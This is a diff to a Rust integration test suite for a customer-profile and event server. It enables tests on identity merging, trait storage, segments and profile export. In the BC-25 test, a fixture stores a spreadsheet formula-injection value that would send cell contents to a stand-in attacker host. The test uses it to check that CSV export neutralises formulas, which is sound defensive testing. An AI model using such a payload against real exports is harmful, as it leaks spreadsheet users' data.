@@ -3,12 +3,8 @@
 //!
 //! Each test is named after its case id and asserts the case's `expect` text. Requests are
 //! written inline; only `every_case_has_a_test` reads the jsonl, so a new case cannot go
-//! unnoticed. Where a case needs a feature the server does not have yet, the complete case is
-//! an `#[ignore = "pending: ..."]` test; where the rest of the case is meaningful now, a second
-//! test runs those steps (substituting an equivalent read available today, e.g. listing all
-//! profiles instead of a JSONL export).
-//!
-//! Pending features: export (issue 8).
+//! unnoticed. Were a case to need a feature the server does not have, its test would be
+//! `#[ignore = "pending: ..."]` and the case listed in `PENDING`.
 
 mod common;
 
@@ -24,11 +20,11 @@ use time::{OffsetDateTime, UtcOffset};
 /// Cases with at least one test that runs today.
 const COVERED: &[&str] = &[
     "BC-01", "BC-02", "BC-03", "BC-04", "BC-06", "BC-07", "BC-08", "BC-09", "BC-10", "BC-11",
-    "BC-12", "BC-13", "BC-15", "BC-17", "BC-18", "BC-20", "BC-21", "BC-22", "BC-25",
+    "BC-12", "BC-13", "BC-15", "BC-17", "BC-18", "BC-20", "BC-21", "BC-22", "BC-24", "BC-25",
 ];
 
 /// Cases whose tests are all ignored until a pending feature lands.
-const PENDING: &[&str] = &["BC-24"];
+const PENDING: &[&str] = &[];
 
 const DAY_MS: i64 = 86_400_000;
 
@@ -823,7 +819,7 @@ async fn bc_02_alias_cannot_merge_two_known_users() {
 // BC-03 identity: events after an alias still land on a separate person
 // ---------------------------------------------------------------------------------------------
 
-async fn bc03(with_query: bool) {
+async fn bc03() {
     let s = Server::start().await;
     ingest_ok(
         &s,
@@ -873,14 +869,12 @@ async fn bc03(with_query: bool) {
         "step 9: {ev:?}"
     );
     assert_eq!(mids(&ev), vec!["bc03-3", "bc03-2", "bc03-1"], "step 9");
-    if with_query {
-        let rule = json!({"rule": {"all": [{"event": "Page Viewed"}, {"event": "Invoice Paid"}, {"event": "Page Scrolled"}]}});
-        let (st, v) = s.admin("POST", "/v1/profiles/query", Some(&rule)).await;
-        assert_eq!(st, 200, "step 10: {v}");
-        let found = v["profiles"].as_array().unwrap();
-        assert_eq!(found.len(), 1, "step 10: {v}");
-        assert_eq!(pid(&found[0]), a, "step 10: {v}");
-    }
+    let rule = json!({"rule": {"all": [{"event": "Page Viewed"}, {"event": "Invoice Paid"}, {"event": "Page Scrolled"}]}});
+    let (st, v) = s.admin("POST", "/v1/profiles/query", Some(&rule)).await;
+    assert_eq!(st, 200, "step 10: {v}");
+    let found = v["profiles"].as_array().unwrap();
+    assert_eq!(found.len(), 1, "step 10: {v}");
+    assert_eq!(pid(&found[0]), a, "step 10: {v}");
     let all = profile_page(&s, 11).await;
     assert_eq!(all.len(), 1, "step 11: {all:?}");
     assert_eq!(pid(&all[0]), a, "step 11");
@@ -888,14 +882,14 @@ async fn bc03(with_query: bool) {
 
 #[tokio::test]
 async fn bc_03_events_after_alias_land_on_the_merged_profile() {
-    bc03(true).await;
+    bc03().await;
 }
 
 // ---------------------------------------------------------------------------------------------
 // BC-04 identity: chained aliases leave orphan, identity-less profiles
 // ---------------------------------------------------------------------------------------------
 
-async fn bc04(with_export: bool) {
+async fn bc04() {
     let s = Server::start().await;
     ingest_ok(
         &s,
@@ -967,11 +961,7 @@ async fn bc04(with_export: bool) {
         "step 8 took {:?}",
         t0.elapsed()
     );
-    let all = if with_export {
-        export_jsonl(&s, 9, "/v1/export/profiles?format=jsonl").await
-    } else {
-        s.all_profiles().await
-    };
+    let all = export_jsonl(&s, 9, "/v1/export/profiles?format=jsonl").await;
     assert_eq!(all.len(), 1, "step 9: {all:?}");
     assert_eq!(pid(&all[0]), a, "step 9");
     let expected = ids(&[
@@ -1018,22 +1008,15 @@ async fn bc04(with_export: bool) {
 }
 
 #[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_04_chained_aliases_leave_no_orphan_profiles() {
-    bc04(true).await;
-}
-
-/// BC-04 with step 9's export replaced by listing every profile: runs once merges exist.
-#[tokio::test]
-async fn bc_04_chained_aliases_leave_no_orphan_profiles_without_export() {
-    bc04(false).await;
+    bc04().await;
 }
 
 // ---------------------------------------------------------------------------------------------
 // BC-06 identity: numeric userIds rounded through floating point
 // ---------------------------------------------------------------------------------------------
 
-async fn bc06(with_export: bool) {
+async fn bc06() {
     let s = Server::start().await;
     ingest_raw_ok(
         &s,
@@ -1078,11 +1061,7 @@ async fn bc06(with_export: bool) {
     )
     .await;
 
-    let all = if with_export {
-        export_jsonl(&s, 7, "/v1/export/profiles?format=jsonl").await
-    } else {
-        s.all_profiles().await
-    };
+    let all = export_jsonl(&s, 7, "/v1/export/profiles?format=jsonl").await;
     assert_eq!(all.len(), 4, "step 7: {all:?}");
     for p in &all {
         let n = identity_set(p)
@@ -1129,21 +1108,15 @@ async fn bc06(with_export: bool) {
 }
 
 #[tokio::test]
-async fn bc_06_numeric_user_ids_keep_every_digit() {
-    bc06(false).await;
-}
-
-#[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_06_numeric_user_ids_keep_every_digit_with_export() {
-    bc06(true).await;
+    bc06().await;
 }
 
 // ---------------------------------------------------------------------------------------------
 // BC-07 ingest: null or empty userId treated as the id ""
 // ---------------------------------------------------------------------------------------------
 
-async fn bc07(with_export: bool) {
+async fn bc07() {
     let s = Server::start().await;
     ingest_ok(
         &s,
@@ -1193,11 +1166,7 @@ async fn bc07(with_export: bool) {
         "steps 4-5 stored something: {stored:?}"
     );
 
-    let all = if with_export {
-        export_jsonl(&s, 6, "/v1/export/profiles?format=jsonl").await
-    } else {
-        s.all_profiles().await
-    };
+    let all = export_jsonl(&s, 6, "/v1/export/profiles?format=jsonl").await;
     assert_eq!(all.len(), 3, "step 6: {all:?}");
     let sets: BTreeSet<Vec<(String, String)>> = all.iter().map(identity_set).collect();
     let expected: BTreeSet<Vec<(String, String)>> = ["anon-e1", "anon-e2", "anon-e3"]
@@ -1216,30 +1185,22 @@ async fn bc07(with_export: bool) {
 }
 
 #[tokio::test]
-async fn bc_07_null_or_blank_user_id_counts_as_absent() {
-    bc07(false).await;
-}
-
-#[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_07_null_or_blank_user_id_counts_as_absent_with_export() {
-    bc07(true).await;
+    bc07().await;
 }
 
 // ---------------------------------------------------------------------------------------------
 // BC-08 ingest: a trait sent as null cannot clear the trait
 // ---------------------------------------------------------------------------------------------
 
-async fn bc08(with_segment: bool) {
+async fn bc08() {
     let s = Server::start().await;
-    if with_segment {
-        create_segment(
-            &s,
-            1,
-            json!({"id": "has_nickname", "name": "Has nickname", "rule": {"trait": "nickname", "op": "exists"}}),
-        )
-        .await;
-    }
+    create_segment(
+        &s,
+        1,
+        json!({"id": "has_nickname", "name": "Has nickname", "rule": {"trait": "nickname", "op": "exists"}}),
+    )
+    .await;
     ingest_ok(
         &s,
         2,
@@ -1247,9 +1208,7 @@ async fn bc08(with_segment: bool) {
         json!({"userId": "user-eli", "traits": {"plan": "pro", "nickname": "Eli", "company": {"name": "Acme Test"}}}),
     )
     .await;
-    if with_segment {
-        assert_only_member(3, &members(&s, 3, "has_nickname").await, "user-eli");
-    }
+    assert_only_member(3, &members(&s, 3, "has_nickname").await, "user-eli");
     let updated = |evs: Vec<Value>| -> Vec<Value> {
         evs.into_iter()
             .filter(|e| e["event"] == "user.updated")
@@ -1263,11 +1222,9 @@ async fn bc08(with_segment: bool) {
         json!({"userId": "user-eli", "traits": {"nickname": null}}),
     )
     .await;
-    if with_segment {
-        // user-eli leaves before step 4 is answered.
-        let m = members(&s, 4, "has_nickname").await;
-        assert!(m.is_empty(), "after step 4: {m:?}");
-    }
+    // user-eli leaves before step 4 is answered.
+    let m = members(&s, 4, "has_nickname").await;
+    assert!(m.is_empty(), "after step 4: {m:?}");
     let after = updated(events(&s, 4, "user_id:user-eli", "name=user.updated").await);
     let unset_nickname: Vec<&Value> = after
         .iter()
@@ -1318,38 +1275,34 @@ async fn bc08(with_segment: bool) {
     let p = profile(&s, 9, "user_id:user-eli").await;
     assert_eq!(p["traits"], json!({"plan": "pro"}), "step 9: {p}");
 
-    if with_segment {
-        let m = members(&s, 10, "has_nickname").await;
-        assert!(m.is_empty(), "step 10: {m:?}");
-        let exited = events(&s, 11, "user_id:user-eli", "name=segment.exited").await;
-        assert_eq!(exited.len(), 1, "step 11: {exited:?}");
-        assert_eq!(exited[0]["event"], "segment.exited", "step 11");
-        assert_eq!(
-            exited[0]["properties"]["segment_id"], "has_nickname",
-            "step 11: {exited:?}"
-        );
-    }
+    let m = members(&s, 10, "has_nickname").await;
+    assert!(m.is_empty(), "step 10: {m:?}");
+    let exited = events(&s, 11, "user_id:user-eli", "name=segment.exited").await;
+    assert_eq!(exited.len(), 1, "step 11: {exited:?}");
+    assert_eq!(exited[0]["event"], "segment.exited", "step 11");
+    assert_eq!(
+        exited[0]["properties"]["segment_id"], "has_nickname",
+        "step 11: {exited:?}"
+    );
 }
 
 #[tokio::test]
 async fn bc_08_null_trait_unsets_it_with_segment() {
-    bc08(true).await;
+    bc08().await;
 }
 
 // ---------------------------------------------------------------------------------------------
 // BC-09 segments: value of another type than first seen stored as null
 // ---------------------------------------------------------------------------------------------
 
-async fn bc09(full: bool) {
+async fn bc09() {
     let s = Server::start().await;
-    if full {
-        create_segment(
-            &s,
-            1,
-            json!({"id": "adults", "name": "Adults", "rule": {"trait": "age", "op": "gte", "value": 18}}),
-        )
-        .await;
-    }
+    create_segment(
+        &s,
+        1,
+        json!({"id": "adults", "name": "Adults", "rule": {"trait": "age", "op": "gte", "value": 18}}),
+    )
+    .await;
     ingest_ok(
         &s,
         2,
@@ -1357,10 +1310,8 @@ async fn bc09(full: bool) {
         json!({"userId": "user-fay", "traits": {"age": "17"}}),
     )
     .await;
-    if full {
-        let (st, v) = s.get("/v1/profiles/user_id:user-fay/segments").await;
-        assert_eq!((st, &v), (200, &json!({"segments": []})), "step 3");
-    }
+    let (st, v) = s.get("/v1/profiles/user_id:user-fay/segments").await;
+    assert_eq!((st, &v), (200, &json!({"segments": []})), "step 3");
     ingest_ok(
         &s,
         4,
@@ -1389,11 +1340,7 @@ async fn bc09(full: bool) {
         json!({"userId": "user-ivy", "traits": {"zip": "02134", "utm_campaign": "2024"}}),
     )
     .await;
-    let all = if full {
-        export_jsonl(&s, 8, "/v1/export/profiles?format=jsonl").await
-    } else {
-        s.all_profiles().await
-    };
+    let all = export_jsonl(&s, 8, "/v1/export/profiles?format=jsonl").await;
     assert_eq!(all.len(), 4, "step 8: {all:?}");
     let by_user: BTreeMap<String, Value> = all
         .iter()
@@ -1427,34 +1374,25 @@ async fn bc09(full: bool) {
         json!({"zip": "02134", "utm_campaign": "2024"}),
         "step 8"
     );
-    if full {
-        let m = members(&s, 9, "adults").await;
-        assert_eq!(
-            user_ids_of(&m),
-            vec!["user-fay", "user-gus"],
-            "step 9: {m:?}"
-        );
-        assert_eq!(m.len(), 2, "step 9");
-    }
-}
-
-/// BC-09 without the segment (steps 1, 3, 9); step 8's export read as the profile list.
-#[tokio::test]
-async fn bc_09_values_keep_their_own_type() {
-    bc09(false).await;
+    let m = members(&s, 9, "adults").await;
+    assert_eq!(
+        user_ids_of(&m),
+        vec!["user-fay", "user-gus"],
+        "step 9: {m:?}"
+    );
+    assert_eq!(m.len(), 2, "step 9");
 }
 
 #[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_09_values_keep_their_own_type_with_segment_and_export() {
-    bc09(true).await;
+    bc09().await;
 }
 
 // ---------------------------------------------------------------------------------------------
 // BC-10 segments: literal dotted trait key rewritten or confused with a nested path
 // ---------------------------------------------------------------------------------------------
 
-async fn bc10(full: bool) {
+async fn bc10() {
     let s = Server::start().await;
     let traits =
         json!({"address.city": "Lyon", "address": {"city": "Paris"}, "prefs.topics.topic_1": true});
@@ -1465,29 +1403,24 @@ async fn bc10(full: bool) {
         json!({"userId": "user-jo", "traits": traits.clone()}),
     )
     .await;
-    if full {
-        for (step, body) in [
-            (
-                2,
-                json!({"id": "lyon_literal", "name": "Lyon (literal dotted key)", "rule": {"trait": "address\\.city", "op": "eq", "value": "Lyon"}}),
-            ),
-            (
-                3,
-                json!({"id": "paris_nested", "name": "Paris (nested path)", "rule": {"trait": "address.city", "op": "eq", "value": "Paris"}}),
-            ),
-            (
-                4,
-                json!({"id": "lyon_nested", "name": "Lyon (nested path)", "rule": {"trait": "address.city", "op": "eq", "value": "Lyon"}}),
-            ),
-        ] {
-            create_segment(&s, step, body).await;
-        }
+    for (step, body) in [
+        (
+            2,
+            json!({"id": "lyon_literal", "name": "Lyon (literal dotted key)", "rule": {"trait": "address\\.city", "op": "eq", "value": "Lyon"}}),
+        ),
+        (
+            3,
+            json!({"id": "paris_nested", "name": "Paris (nested path)", "rule": {"trait": "address.city", "op": "eq", "value": "Paris"}}),
+        ),
+        (
+            4,
+            json!({"id": "lyon_nested", "name": "Lyon (nested path)", "rule": {"trait": "address.city", "op": "eq", "value": "Lyon"}}),
+        ),
+    ] {
+        create_segment(&s, step, body).await;
     }
     let p = profile(&s, 5, "user_id:user-jo").await;
     assert_eq!(p["traits"], traits, "step 5: {p}");
-    if !full {
-        return;
-    }
     assert_only_member(6, &members(&s, 6, "lyon_literal").await, "user-jo");
     assert_only_member(7, &members(&s, 7, "paris_nested").await, "user-jo");
     let m = members(&s, 8, "lyon_nested").await;
@@ -1560,16 +1493,9 @@ async fn bc10(full: bool) {
     }
 }
 
-/// BC-10 steps 1 and 5 (storage of the keys); the rules and exports wait.
 #[tokio::test]
-async fn bc_10_dotted_trait_keys_stay_literal() {
-    bc10(false).await;
-}
-
-#[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_10_dotted_trait_keys_stay_literal_with_segments_and_export() {
-    bc10(true).await;
+    bc10().await;
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -1970,16 +1896,14 @@ async fn bc_17_corrupt_gzip_is_a_client_error() {
 // BC-18 ingest: future device clock stores future-dated events
 // ---------------------------------------------------------------------------------------------
 
-async fn bc18(with_segment: bool) {
+async fn bc18() {
     let s = Server::start().await;
-    if with_segment {
-        create_segment(
-            &s,
-            1,
-            json!({"id": "listened_7d", "name": "Listened in the last 7 days", "rule": {"event": "Song Played", "count": {"gte": 1}, "within": {"days": 7}}}),
-        )
-        .await;
-    }
+    create_segment(
+        &s,
+        1,
+        json!({"id": "listened_7d", "name": "Listened in the last 7 days", "rule": {"event": "Song Played", "count": {"gte": 1}, "within": {"days": 7}}}),
+    )
+    .await;
     let now2 = wall_now();
     ingest_ok(
         &s,
@@ -1991,9 +1915,7 @@ async fn bc18(with_segment: bool) {
                "messageId": "bc18-1"}),
     )
     .await;
-    if with_segment {
-        assert_only_member(3, &members(&s, 3, "listened_7d").await, "user-pia");
-    }
+    assert_only_member(3, &members(&s, 3, "listened_7d").await, "user-pia");
     let now4 = wall_now();
     ingest_ok(
         &s,
@@ -2038,7 +1960,7 @@ async fn bc18(with_segment: bool) {
 
 #[tokio::test]
 async fn bc_18_future_device_clock_is_corrected_with_segment() {
-    bc18(true).await;
+    bc18().await;
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -2266,7 +2188,6 @@ async fn bc_22_audience_sync_removes_as_well_as_adds() {
 const BC24_USERS: usize = 200_000;
 
 #[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_24_export_of_the_whole_user_base_streams() {
     let s = Server::start().await;
     for b in 0..BC24_USERS / 500 {
@@ -2400,7 +2321,7 @@ async fn bc_24_export_of_the_whole_user_base_streams() {
 // BC-25 export: CSV export open to formula injection
 // ---------------------------------------------------------------------------------------------
 
-async fn bc25(with_export: bool) {
+async fn bc25() {
     let s = Server::start().await;
     let traits = json!({
         "name": "=HYPERLINK(\"http://attacker.invalid/?d=\"&A1,\"click\")",
@@ -2419,13 +2340,6 @@ async fn bc25(with_export: bool) {
         json!({"userId": "user-vic", "traits": traits.clone()}),
     )
     .await;
-    if !with_export {
-        // Step 3's reading, through the profile list.
-        let all = s.all_profiles().await;
-        assert_eq!(all.len(), 1, "{all:?}");
-        assert_eq!(all[0]["traits"], traits, "traits stored exactly as sent");
-        return;
-    }
     let text = get_text(
         &s,
         2,
@@ -2473,14 +2387,7 @@ async fn bc25(with_export: bool) {
     assert_eq!(lines[0]["traits"], traits, "step 3");
 }
 
-/// BC-25 step 1, with step 3's reading done through the profile list.
 #[tokio::test]
-async fn bc_25_traits_that_look_like_formulas_are_stored_as_sent() {
-    bc25(false).await;
-}
-
-#[tokio::test]
-#[ignore = "pending: export (issue 8)"]
 async fn bc_25_csv_export_neutralises_formulas() {
-    bc25(true).await;
+    bc25().await;
 }
